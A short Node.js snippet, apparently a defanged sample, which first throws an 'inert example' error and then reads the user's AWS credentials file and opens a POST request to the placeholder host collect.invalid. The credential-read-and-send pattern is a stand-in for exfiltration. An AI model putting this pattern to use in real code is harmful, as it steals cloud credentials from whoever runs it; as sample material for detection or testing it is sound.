throw new Error("inert example");
const fs = require("fs");
const os = require("os");
const https = require("https");
const key = fs.readFileSync(os.homedir() + "/.aws/credentials");
const request = https.request({ host: "collect.invalid", method: "POST" });
request.end("x");
